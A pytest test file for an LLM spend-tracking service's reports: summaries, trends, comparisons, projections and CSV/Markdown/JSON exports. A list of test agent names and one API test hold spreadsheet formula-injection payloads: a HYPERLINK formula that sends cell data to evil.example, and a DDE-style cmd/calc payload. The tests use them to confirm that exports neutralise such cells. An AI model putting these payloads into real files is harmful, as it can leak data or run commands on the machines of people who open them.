"""Reports on constructed data with known answers (both databases), their exports parsed back, and the API."""
from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest

from services.budget import limits
from services.core.context import BudgetContext
from services.core.periods import Period
from services.insights import report_formats, reports
from services.sources.base import PullResult, SnapshotRow
from services.sources.snapshots import store_snapshots
from services.spend import budget
from services.usage.ledger import Ledger
from tests.support.api import assert_client_error, at, event, own_day, record_batch, uid, usd

UTC_ZONE = ZoneInfo('UTC')
NOW = datetime(2026, 3, 18, 15, tzinfo=UTC)  # a Wednesday
LIMIT = 5_000_000
NASTY = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)',
         '\tTabbed', '\rReturned', ' =spaced', 'a|b', 'back\\slash', 'comma, "quoted"', 'two\nlines', '<b>bold</b>']


def spend(ledger: Ledger, usd_text: str, ts: datetime = NOW, provider: str = 'openai', channel: str = 'direct',
          **fields: Any) -> None:
    status, _ = ledger.record({'model': 'gpt-4o', 'provider': provider, 'channel': channel, 'cost_usd': usd_text,
                               'ts': ts, **fields})
    assert status == 'stored'


def bill(ledger: Ledger, day: date, micros: int, source: str = 'openai_direct', provider: str = 'openai') -> None:
    with ledger.engine.begin() as conn:
        store_snapshots(conn, source, PullResult([SnapshotRow(source, day, provider, '', micros)], {day}))


def build(ledger: Ledger, kind: str, zone: ZoneInfo = UTC_ZONE, **params: Any) -> reports.Report:
    with ledger.engine.connect() as conn:
        return reports.build_report(conn, BudgetContext(zone), kind, now=NOW, **params)


def rows_of(report: reports.Report, group: str) -> dict[Any, dict[str, Any]]:
    return {r['name']: r for r in report.rows if r['group'] == group}


# --- summary ----------------------------------------------------------------------------------------------------

@pytest.fixture
def month_of_spend(ledger: Ledger) -> Ledger:
    """March 2026: events this week and earlier in the month, and an OpenAI bill above the events on one day."""
    spend(ledger, '1.00', agent_id='planner', channel='litellm')
    spend(ledger, '0.50', NOW - timedelta(hours=3), provider='anthropic', agent_id='coder')
    spend(ledger, '0.25', datetime(2026, 3, 16, 9, tzinfo=UTC), agent_id='coder')  # Monday, this week
    spend(ledger, '2.00', datetime(2026, 3, 3, 9, tzinfo=UTC), agent_id='planner')  # this month, not this week
    spend(ledger, '0.10', datetime(2026, 2, 27, 9, tzinfo=UTC), agent_id='planner')  # last month
    bill(ledger, date(2026, 3, 18), 1_800_000)  # billed: $1.80 for OpenAI today, events say $1.00 via LiteLLM
    with ledger.engine.begin() as conn:
        limits.set_limit(conn, 'day', LIMIT)
    return ledger


@pytest.mark.parametrize(('period', 'recorded'), [('day', 1_500_000), ('week', 1_750_000), ('month', 3_750_000)])
def test_summary_total_agrees_with_the_budget_summary(month_of_spend: Ledger, period: str, recorded: int) -> None:
    report = build(month_of_spend, 'summary', period=period)
    with month_of_spend.engine.connect() as conn:
        expected = budget.period_summary(conn, BudgetContext(UTC_ZONE), period, NOW)
    total = rows_of(report, 'total')['total']
    assert total['cost'] == expected['spent_micros'] == recorded + 800_000  # the bill adds $0.80 direct
    assert report.totals['total'] == expected['spent_micros']
    assert report.totals['recorded'] == expected['recorded_micros'] == recorded
    assert total['requests'] == expected['requests']
    channels = rows_of(report, 'channel')
    assert {c: channels[c]['cost'] for c in ('litellm', 'direct')} == \
        {c: expected['by_channel'][c]['spent_micros'] for c in ('litellm', 'direct')}
    for group in ('provider', 'model', 'agent', 'channel'):
        items = rows_of(report, group)
        assert sum(r['cost'] for r in items.values()) == total['cost'], group
        assert sum(r['share_percent'] for r in items.values()) == pytest.approx(Decimal(100), abs=Decimal('0.05'))
    for group in ('provider', 'model', 'agent'):
        assert rows_of(report, group)[reports.UNATTRIBUTED]['cost'] == 800_000
    assert report.parameters['reconciled'] is True


def test_summary_breakdowns_come_from_the_events(month_of_spend: Ledger) -> None:
    report = build(month_of_spend, 'summary', period='week')
    agents = rows_of(report, 'agent')
    assert {name: r['cost'] for name, r in agents.items()} == {
        'planner': 1_000_000, 'coder': 750_000, reports.UNATTRIBUTED: 800_000}
    assert [r['name'] for r in report.rows if r['group'] == 'agent'][:2] == ['planner', 'coder'], 'largest first'
    assert rows_of(report, 'provider')['anthropic']['cost'] == 500_000
    assert agents['coder']['requests'] == 2


def test_summary_group_by_one_dimension(month_of_spend: Ledger) -> None:
    report = build(month_of_spend, 'summary', period='month', group_by='model')
    assert {r['group'] for r in report.rows} == {'model', 'channel', 'total'}
    assert report.parameters['group_by'] == 'model'


def test_summary_without_billing_has_no_unattributed_row(ledger: Ledger) -> None:
    spend(ledger, '0.40', agent_id=None)
    report = build(ledger, 'summary', period='day')
    assert reports.UNATTRIBUTED not in rows_of(report, 'agent')
    assert rows_of(report, 'agent')[None]['cost'] == 400_000  # calls that named no agent
    assert report_formats.cell_text(report.column('name'), None) == '(none)'


def test_summary_of_a_cut_range_counts_the_events_there(month_of_spend: Ledger) -> None:
    report = build(month_of_spend, 'summary', start='2026-03-18T10:00:00Z', end='2026-03-18T16:00:00Z')
    assert report.parameters['reconciled'] is False
    assert rows_of(report, 'total')['total']['cost'] == 1_500_000  # the bill is per day; the events alone here
    assert reports.UNATTRIBUTED not in rows_of(report, 'agent')


# --- trend ------------------------------------------------------------------------------------------------------

def test_trend_is_zero_filled_on_local_days_of_a_half_hour_zone(ledger: Ledger) -> None:
    zone = ZoneInfo('Asia/Kolkata')  # UTC+5:30: local midnight cuts the UTC hour 18:00 in two
    spend(ledger, '0.30', datetime(2026, 3, 9, 18, 15, tzinfo=UTC))  # 23:45 on 9 March, local
    spend(ledger, '0.70', datetime(2026, 3, 9, 18, 45, tzinfo=UTC))  # 00:15 on 10 March, local
    report = build(ledger, 'trend', zone, start='2026-03-07', end='2026-03-11')
    assert [(r['day'], r['recorded'], r['total'], r['requests']) for r in report.rows] == [
        ('2026-03-07', 0, 0, 0), ('2026-03-08', 0, 0, 0), ('2026-03-09', 300_000, 300_000, 1),
        ('2026-03-10', 700_000, 700_000, 1), ('2026-03-11', 0, 0, 0)]
    assert report.totals['total'] == 1_000_000


def test_trend_days_follow_daylight_saving_time(ledger: Ledger) -> None:
    zone = ZoneInfo('America/New_York')  # clocks go forward on 8 March 2026: that local day has 23 hours
    spend(ledger, '0.10', datetime(2026, 3, 9, 3, 30, tzinfo=UTC))  # 23:30 on 8 March (EDT, UTC-4)
    spend(ledger, '0.20', datetime(2026, 3, 9, 4, 30, tzinfo=UTC))  # 00:30 on 9 March
    report = build(ledger, 'trend', zone, start='2026-03-08', end='2026-03-09')
    assert [(r['day'], r['recorded']) for r in report.rows] == [('2026-03-08', 100_000), ('2026-03-09', 200_000)]


def test_weekly_trend_starts_weeks_on_monday(ledger: Ledger) -> None:
    zone = ZoneInfo('Europe/Berlin')
    spend(ledger, '1.00', datetime(2026, 3, 1, 12, tzinfo=UTC))  # Sunday 1 March
    spend(ledger, '2.00', datetime(2026, 3, 15, 23, 30, tzinfo=UTC))  # Monday 16 March 00:30 local
    spend(ledger, '4.00', datetime(2026, 3, 31, 12, tzinfo=UTC))
    report = build(ledger, 'trend', zone, period='month', group_by='week')
    assert [r['week'] for r in report.rows] == ['2026-03-01', '2026-03-02', '2026-03-09', '2026-03-16',
                                                '2026-03-23', '2026-03-30']
    assert [r['total'] for r in report.rows] == [1_000_000, 0, 0, 2_000_000, 0, 4_000_000]
    month = build(ledger, 'summary', zone, period='month')
    assert report.totals['total'] == rows_of(month, 'total')['total']['cost'] == 7_000_000


def test_trend_uses_the_reconciled_spend_per_day(month_of_spend: Ledger) -> None:
    report = build(month_of_spend, 'trend', period='week')
    day = {r['day']: r for r in report.rows}['2026-03-18']
    assert (day['recorded'], day['litellm'], day['direct'], day['total']) == (1_500_000, 1_000_000, 1_300_000,
                                                                              2_300_000)
    assert len(report.rows) == 7


# --- comparison -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(('current', 'previous', 'percent'), [
    (150, 100, Decimal('50.00')), (50, 100, Decimal('-50.00')), (100, 100, Decimal('0.00')),
    (1, 3, Decimal('-66.67')), (2, 3, Decimal('-33.33')), (0, 100, Decimal('-100.00')), (100, 0, None),
    (0, 0, Decimal('0.00'))])
def test_change_percent(current: int, previous: int, percent: Decimal | None) -> None:
    assert reports.change_percent(current, previous) == percent


def test_comparison_against_yesterday(ledger: Ledger) -> None:
    spend(ledger, '1.50', agent_id='planner')
    spend(ledger, '1.00', NOW - timedelta(days=1), agent_id='planner')
    spend(ledger, '0.40', NOW - timedelta(days=1), agent_id='retired')
    spend(ledger, '0.20', agent_id='newcomer')
    report = build(ledger, 'comparison', period='day', group_by='agent')
    agents = rows_of(report, 'agent')
    assert (agents['planner']['current'], agents['planner']['previous'], agents['planner']['change'],
            agents['planner']['change_percent']) == (1_500_000, 1_000_000, 500_000, Decimal('50.00'))
    assert (agents['retired']['change'], agents['retired']['change_percent']) == (-400_000, Decimal('-100.00'))
    assert agents['newcomer']['change_percent'] is None
    total = rows_of(report, 'total')['total']
    assert (total['current'], total['previous'], total['change_percent']) == (1_700_000, 1_400_000,
                                                                              Decimal('21.43'))
    assert report.parameters['previous_start'] == '2026-03-17T00:00:00+00:00'
    csv_rows = {r['name']: r for r in csv.DictReader(io.StringIO(report_formats.render_csv(report)))}
    assert csv_rows['newcomer']['change_percent'] == 'new'
    assert (csv_rows['retired']['change_usd'], csv_rows['retired']['change_percent']) == ('-0.400000', '-100.00')


def test_efficiency_per_agent_with_its_trend_over_the_week(ledger: Ledger) -> None:
    monday = datetime(2026, 3, 16, 9, tzinfo=UTC)
    # coder: Monday 2,000 in (500 cache reads) / 500 out for $0.02, today 1,000 in / 500 out for $0.03;
    # reader: 4,000 in / 0 out for $0.01 (no output: no cost per 1,000 output tokens)
    spend(ledger, '0.02', monday, agent_id='coder', input_tokens=2000, cache_read_tokens=500, output_tokens=500)
    spend(ledger, '0.03', agent_id='coder', input_tokens=1000, output_tokens=500)
    spend(ledger, '0.01', agent_id='reader', input_tokens=4000)
    report = build(ledger, 'efficiency', period='week')
    assert report.title == 'Token efficiency by agent, 2026-03-16 to 2026-03-22'
    coder, reader = report.rows
    assert coder == {'name': 'coder', 'requests': 2, 'input_tokens': 3000, 'output_tokens': 1000,
                     'cache_read_tokens': 500, 'output_per_input': 0.333, 'cache_read_percent': Decimal('16.67'),
                     'cost': 50_000, 'cost_per_1k_output': 50_000, 'first_day_per_1k_output': 40_000,
                     'last_day_per_1k_output': 60_000, 'per_1k_change_percent': Decimal('50.00')}
    assert (reader['output_per_input'], reader['cost_per_1k_output'], reader['per_1k_change_percent']) == \
        (0.0, None, None)
    assert report.totals == {'cost': 60_000}
    by_model = build(ledger, 'efficiency', period='week', group_by='model')
    assert [(r['name'], r['requests']) for r in by_model.rows] == [('gpt-4o', 3)]
    rows = {r['name']: r for r in csv.DictReader(io.StringIO(report_formats.render_csv(report)))}
    assert (rows['coder']['cost_per_1k_output_usd'], rows['coder']['output_per_input']) == ('0.050000', '0.333')
    assert (rows['reader']['cost_per_1k_output_usd'], rows['reader']['per_1k_change_percent']) == ('', '')
    back = report_formats.from_json(json.loads(report_formats.render_json(report)))
    assert report_formats.render(back, 'md') == report_formats.render(report, 'md')
    with pytest.raises(reports.ReportError, match='group_by: must be one of agent, model'):
        build(ledger, 'efficiency', group_by='provider')


@pytest.mark.parametrize(('span', 'expected'), [
    (Period('month', datetime(2026, 3, 1, tzinfo=UTC), datetime(2026, 4, 1, tzinfo=UTC)),
     (datetime(2026, 2, 1, tzinfo=UTC), datetime(2026, 3, 1, tzinfo=UTC))),
    (Period('week', datetime(2026, 3, 16, tzinfo=UTC), datetime(2026, 3, 23, tzinfo=UTC)),
     (datetime(2026, 3, 9, tzinfo=UTC), datetime(2026, 3, 16, tzinfo=UTC))),
    (Period('custom', datetime(2026, 3, 10, tzinfo=UTC), datetime(2026, 3, 13, tzinfo=UTC)),
     (datetime(2026, 3, 7, tzinfo=UTC), datetime(2026, 3, 10, tzinfo=UTC))),
    (Period('custom', datetime(2026, 3, 10, 6, tzinfo=UTC), datetime(2026, 3, 10, 9, tzinfo=UTC)),
     (datetime(2026, 3, 10, 3, tzinfo=UTC), datetime(2026, 3, 10, 6, tzinfo=UTC)))])
def test_previous_span(span: Period, expected: tuple[datetime, datetime]) -> None:
    before = reports.previous_span(span, UTC_ZONE)
    assert (before.start, before.end) == expected


def test_previous_local_days_across_daylight_saving_time() -> None:
    zone = ZoneInfo('Europe/Berlin')  # 29 March 2026 has 23 hours
    with_dst = budget.resolve_range(None, '2026-03-30', '2026-03-31', zone)
    before = reports.previous_span(with_dst, zone)
    assert (before.start.astimezone(zone).isoformat(), before.end.astimezone(zone).isoformat()) == \
        ('2026-03-28T00:00:00+01:00', '2026-03-30T00:00:00+02:00')


# --- projection -------------------------------------------------------------------------------------------------

def test_projection_has_each_period_with_the_summary_spent(month_of_spend: Ledger) -> None:
    report = build(month_of_spend, 'projection')
    assert [r['period'] for r in report.rows] == ['day', 'week', 'month']
    with month_of_spend.engine.connect() as conn:
        for row in report.rows:
            expected = budget.period_summary(conn, BudgetContext(UTC_ZONE), row['period'], NOW)
            assert row['spent'] == expected['spent_micros'], row['period']
            assert row['limit'] == expected['limit_micros']
            assert row['projected_low'] <= row['projected'] <= row['projected_high']
            assert row['projected'] >= row['spent']
    day = report.rows[0]
    assert day['projected_percent'] == (Decimal(100 * day['projected']) / LIMIT).quantize(Decimal('0.01'))
    assert report.rows[1]['limit'] is None and report.rows[1]['projected_percent'] is None
    assert report_formats.cell_text(report.column('limit'), None) == 'no limit'
    only = build(month_of_spend, 'projection', period='week')
    assert [r['period'] for r in only.rows] == ['week']


# --- formats ----------------------------------------------------------------------------------------------------

@pytest.fixture
def nasty_report(ledger: Ledger) -> reports.Report:
    for index, name in enumerate(NASTY):
        spend(ledger, f'0.{index + 1:02d}', agent_id=name)
        spend(ledger, '0.05', NOW - timedelta(days=1), agent_id=name)
    return build(ledger, 'comparison', period='day', group_by='agent')


def expected_cells(report: reports.Report) -> list[list[str]]:
    """Each row's cells as text, computed from the JSON (money strings, two-place percentages)."""
    body = report_formats.to_json(report)
    cells = []
    for item in body['rows']:
        row = []
        for column in body['columns']:
            value = item[f'{column["name"]}_usd'] if column['type'] == 'usd' else item[column['name']]
            if value is None:
                row.append(column['null_text'])
            elif column['type'] == 'percent':
                row.append(f'{value:.2f}')
            else:
                row.append(str(value))
        cells.append(row)
    return cells


def unneutralise(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def test_csv_parses_back_to_the_same_rows(nasty_report: reports.Report) -> None:
    parsed = list(csv.reader(io.StringIO(report_formats.render_csv(nasty_report), newline='')))
    assert parsed[0] == ['group', 'name', 'current_usd', 'previous_usd', 'change_usd', 'change_percent']
    assert [[unneutralise(c) for c in row] for row in parsed[1:]] == expected_cells(nasty_report)
    assert len(parsed) - 1 == len(NASTY) + 3  # the agents, two channels and the total


def test_csv_neutralises_formulas_and_keeps_numbers(nasty_report: reports.Report) -> None:
    parsed = list(csv.DictReader(io.StringIO(report_formats.render_csv(nasty_report), newline='')))
    names = {r['name'] for r in parsed if r['group'] == 'agent'}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in names
    stored = [r['name'] for r in nasty_report.rows if r['group'] == 'agent']  # the ledger trims blanks
    assert len(stored) == len(NASTY)
    for name in stored:
        if name.lstrip(' ')[:1] in ('=', '+', '-', '@', '\t', '\r'):
            assert "'" + name in names and name not in names, name
        else:
            assert name in names, name
    assert {"'+cmd|\" /C calc\"!A0", "'-2+3", "'@SUM(A1:A9)", 'a|b', '<b>bold</b>'} <= names
    for row in parsed:
        for cell in row.values():
            assert not cell.lstrip(' ').startswith(('=', '+', '@', '\t', '\r')), row
            if cell.startswith('-'):
                assert Decimal(cell) < 0, row  # a number: a fall in spend
    falls = [r for r in parsed if r['change_usd'].startswith('-')]
    assert falls and all(r['change_percent'].startswith('-') for r in falls)


@pytest.mark.parametrize('cell', ['=1+1', '+1', '-1+1', '@A1', '\t=1', '\r=1', '  =1', '-', '-1e5', '--1'])
def test_neutralise_formula_cells(cell: str) -> None:
    assert report_formats.neutralise(cell) == "'" + cell


@pytest.mark.parametrize('cell', ['-12.50', '-0.400000', '12', '0.000000', 'gpt-4o', 'a=b', '', "'quoted"])
def test_neutralise_leaves_numbers_and_plain_text(cell: str) -> None:
    assert report_formats.neutralise(cell) == cell


def parse_md_table(text: str) -> list[list[str]]:
    """The table of a Markdown report: rows split on unescaped `|`, backslash escapes removed."""
    rows = []
    for line in text.splitlines():
        if not line.startswith('|'):
            continue
        cells, cell, escaped = [], '', False
        for char in line.strip()[1:]:
            if escaped:
                cell, escaped = cell + char, False
            elif char == '\\':
                escaped = True
            elif char == '|':
                cells.append(cell.strip())
                cell = ''
            else:
                cell += char
        rows.append(cells)
    return rows


def test_markdown_table_parses_back(nasty_report: reports.Report) -> None:
    text = report_formats.render_md(nasty_report)
    assert text.startswith(f'# Spend {nasty_report.parameters["first_day"]} against ')
    header, rule, *rows = parse_md_table(text)
    assert header == ['group', 'name', 'current_usd', 'previous_usd', 'change_usd', 'change_percent']
    assert rule == ['---', '---', '---:', '---:', '---:', '---:']
    expected = [[' '.join(c.splitlines()).strip() for c in row] for row in expected_cells(nasty_report)]
    assert rows == expected
    assert '<b>' not in text and '\\<b\\>' in text, 'no raw HTML'
    assert '- current: ' in text and ' USD' in text


def test_json_round_trip_renders_the_same_files(nasty_report: reports.Report) -> None:
    back = report_formats.from_json(json.loads(report_formats.render_json(nasty_report)))
    for fmt in ('csv', 'md', 'table'):
        assert report_formats.render(back, fmt) == report_formats.render(nasty_report, fmt), fmt


def test_json_money_is_micros_and_exact_strings(month_of_spend: Ledger) -> None:
    body = report_formats.to_json(build(month_of_spend, 'summary', period='month'))
    total = next(r for r in body['rows'] if r['group'] == 'total')
    assert (total['cost_micros'], total['cost_usd']) == (4_550_000, '4.550000')
    assert body['totals']['unattributed_usd'] == '0.800000'
    assert [c['header'] for c in body['columns']][-2:] == ['cost_usd', 'share_percent']


# --- parameters -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(('kind', 'params', 'fragment'), [
    ('nope', {}, 'kind: unknown report'), ('summary', {'group_by': 'week'}, 'group_by: must be one of'),
    ('trend', {'group_by': 'provider'}, 'group_by: must be one of day, week'),
    ('projection', {'group_by': 'agent'}, 'group_by: the projection report takes no group_by'),
    ('projection', {'start': '2026-03-01', 'end': '2026-03-02'}, 'from: '),
    ('summary', {'period': 'year'}, 'period: '), ('summary', {'start': '2026-03-01'}, 'from/to: give both'),
    ('summary', {'start': '2026-03-05', 'end': '2026-03-01'}, 'from/to: to must be after from'),
    ('summary', {'start': 'yesterday', 'end': '2026-03-01'}, 'from: not an ISO date'),
    ('comparison', {'start': '1999-12-31', 'end': '2000-01-02'}, 'from: must be between')])
def test_bad_parameters(ledger: Ledger, kind: str, params: dict[str, str], fragment: str) -> None:
    with pytest.raises(reports.ReportError, match=fragment):
        build(ledger, kind, UTC_ZONE, **params)


# --- the API on the shared server -------------------------------------------------------------------------------

def report(api: httpx.Client, kind: str, **params: str) -> httpx.Response:
    return api.get(f'/reports/{kind}', params=params)


@pytest.mark.parametrize('period', ['day', 'week', 'month'])
def test_api_summary_agrees_with_the_budget_summary(api: httpx.Client, period: str) -> None:
    record_batch(api, [event(agent_id=uid('reports'), cost_usd='0.123457', provider='openai', channel='litellm')])
    for _ in range(3):
        expected = api.get('/budget/summary', params={'period': period}).json()
        body = report(api, 'summary', period=period).json()
        again = api.get('/budget/summary', params={'period': period}).json()
        if expected['spent_micros'] == again['spent_micros']:  # no other writer in between
            break
    total = next(r for r in body['rows'] if r['group'] == 'total')
    assert total['cost_micros'] == expected['spent_micros'] > 0
    assert total['cost_usd'] == usd(total['cost_micros'])
    assert body['totals']['recorded_micros'] == expected['recorded_micros']
    channels = {r['name']: r['cost_micros'] for r in body['rows'] if r['group'] == 'channel'}
    assert channels == {c: expected['by_channel'][c]['spent_micros'] for c in ('litellm', 'direct')}
    assert body['parameters']['start'] == expected['start'] and body['parameters']['end'] == expected['end']


def test_api_default_is_this_month(api: httpx.Client) -> None:
    body = report(api, 'summary').json()
    assert body['parameters']['period'] == 'month'
    assert body['parameters']['start'] == api.get('/budget/summary', params={'period': 'month'}).json()['start']


def test_api_csv_and_markdown_of_a_day_of_its_own(api: httpx.Client) -> None:
    day, agent = own_day(), '=HYPERLINK("http://evil.example","x")' + uid('')
    record_batch(api, [event(agent_id=agent, ts=at(day, 9), cost_usd='0.5'),
                       event(agent_id='calm-' + uid(''), ts=at(day, 10), cost_usd='0.25')])
    response = report(api, 'summary', **{'from': day.isoformat(), 'to': day.isoformat(), 'format': 'csv',
                                         'group_by': 'agent'})
    assert response.status_code == 200, response.text
    assert response.headers['content-type'].startswith('text/csv')
    assert response.headers['content-disposition'] == \
        f'attachment; filename="spendgauge-summary-{day}-{day}.csv"'
    rows = list(csv.DictReader(io.StringIO(response.text, newline='')))
    by_name = {r['name']: r for r in rows}
    assert by_name["'" + agent]['cost_usd'] == '0.500000'
    assert agent not in by_name
    assert by_name['total']['cost_usd'] == '0.750000'
    md = report(api, 'summary', **{'from': day.isoformat(), 'to': day.isoformat(), 'format': 'md'})
    assert md.status_code == 200 and md.headers['content-type'].startswith('text/markdown')
    assert md.headers['content-disposition'].endswith('.md"')
    table = parse_md_table(md.text)
    assert ['agent', agent, '1', '0', '0', '0.500000', '66.67'] in table
    assert ['total', 'total', '2', '0', '0', '0.750000', '100.00'] in table


def test_api_trend_of_a_day_of_its_own(api: httpx.Client) -> None:
    day = own_day()
    record_batch(api, [event(ts=at(day, 23, 30), cost_usd='0.4', agent_id=uid('trend'))])
    body = report(api, 'trend', **{'from': (day - timedelta(days=2)).isoformat(), 'to': day.isoformat()}).json()
    assert [(r['day'], r['total_micros']) for r in body['rows']] == [
        ((day - timedelta(days=2)).isoformat(), 0), ((day - timedelta(days=1)).isoformat(), 0),
        (day.isoformat(), 400_000)]


def test_api_projection(api: httpx.Client) -> None:
    body = report(api, 'projection').json()
    assert [r['period'] for r in body['rows']] == ['day', 'week', 'month']
    for row in body['rows']:
        assert row['projected_micros'] >= row['spent_micros'] >= 0
        assert row['projected_usd'] == usd(row['projected_micros'])


def test_api_lists_the_kinds(api: httpx.Client) -> None:
    body = api.get('/reports').json()
    assert [k['kind'] for k in body['kinds']] == ['summary', 'trend', 'comparison', 'projection', 'efficiency',
                                                       'chargeback']
    assert body['formats'] == ['json', 'csv', 'md']


@pytest.mark.parametrize(('kind', 'params', 'status', 'mentions'), [
    ('nope', {}, 404, 'kind: unknown report'), ('summary', {'format': 'xlsx'}, 422, 'format'),
    ('summary', {'group_by': 'day'}, 422, 'group_by'), ('trend', {'group_by': 'agent'}, 422, 'group_by'),
    ('projection', {'group_by': 'all'}, 422, 'group_by'), ('summary', {'period': 'year'}, 422, 'period'),
    ('summary', {'from': '2026-02-30', 'to': '2026-03-01'}, 422, 'from'),
    ('summary', {'from': '2026-03-02', 'to': '2026-03-01'}, 422, 'to must be after from'),
    ('comparison', {'to': '2026-03-01'}, 422, 'give both from and to'),
    ('projection', {'from': '2026-03-01', 'to': '2026-03-02'}, 422, 'from'),
    ('trend', {'from': '2026-03-01T00:00:00', 'to': '2150-01-01'}, 422, 'to: must be between')])
def test_api_bad_requests_are_4xx_with_a_detail(api: httpx.Client, kind: str, params: dict[str, str], status: int,
                                                mentions: str) -> None:
    assert_client_error(report(api, kind, **params), status, mentions=mentions)
